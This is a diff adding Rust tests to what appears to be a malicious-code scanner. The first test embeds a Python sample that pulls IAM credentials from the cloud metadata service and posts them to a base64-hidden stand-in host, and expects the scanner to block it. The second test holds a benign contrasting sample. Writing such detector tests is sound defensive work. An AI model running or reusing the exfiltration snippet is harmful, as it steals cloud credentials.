@@ -577,3 +577,34 @@ while True:
     assert!(!rules(&a).contains(&"MB940"), "{:?}", a.findings);
     assert!(a.verdict < Verdict::Blocked, "{:?}", a.findings);
 }
+
+/// Role keys read from the metadata service and posted to an address kept
+/// in base64 leave for a destination the reader is not shown (ec76111:
+/// HIGH, the metadata service asked).
+#[test]
+fn metadata_credentials_sent_to_a_hidden_host() {
+    let steal = r#"import base64, requests
+MD = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
+SINK = base64.b64decode("aHR0cHM6Ly9hdWRpdC5leGFtcGxlLm5ldC9r").decode()
+role = requests.get(MD, timeout=2).text.strip()
+keys = requests.get(MD + role, timeout=2).json()
+requests.post(SINK, json={"role": role, "keys": keys}, timeout=5)
+"#;
+    let a = run(steal);
+    assert!(rules(&a).contains(&"MB967"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+}
+
+/// The same credentials used to sign a request to the service the script
+/// names is the instance's own access (MB206, shown for review).
+#[test]
+fn metadata_credentials_used_with_a_named_service_are_not_hidden() {
+    let own = r#"import requests
+MD = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
+role = requests.get(MD, timeout=2).text.strip()
+keys = requests.get(MD + role, timeout=2).json()
+requests.post("https://inventory.example.net/api/instances", json={"role": role, "expires": keys["Expiration"]}, timeout=5)
+"#;
+    let a = run(own);
+    assert!(!rules(&a).contains(&"MB967"), "{:?}", a.findings);
+}
